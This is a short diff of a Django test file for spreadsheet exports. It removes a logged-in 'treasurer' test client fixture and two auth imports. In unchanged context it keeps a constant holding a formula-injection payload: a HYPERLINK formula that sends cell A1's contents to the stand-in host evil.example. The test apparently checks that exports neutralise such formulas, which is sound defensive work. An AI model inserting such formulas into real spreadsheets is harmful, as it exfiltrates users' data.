@@ -8,8 +8,6 @@ from http import HTTPStatus
 
 import openpyxl
 import pytest
-from django.contrib.auth import get_user_model
-from django.contrib.auth.models import Group
 from django.urls import reverse
 
 from tests.factories import (
@@ -24,14 +22,6 @@ from tests.factories import (
 pytestmark = pytest.mark.django_db
 
 EVIL_STREET = '=HYPERLINK("http://evil.example/?"&A1;"Нажмите")'
-
-
-@pytest.fixture
-def treasurer_client(client):
-    user = get_user_model().objects.create_user(username="kassir", password="secret-123")
-    user.groups.add(Group.objects.get(name="Казначей"))
-    client.force_login(user)
-    return client
 
 
 def export(client, url_name: str, fmt: str, **params) -> list[list]:
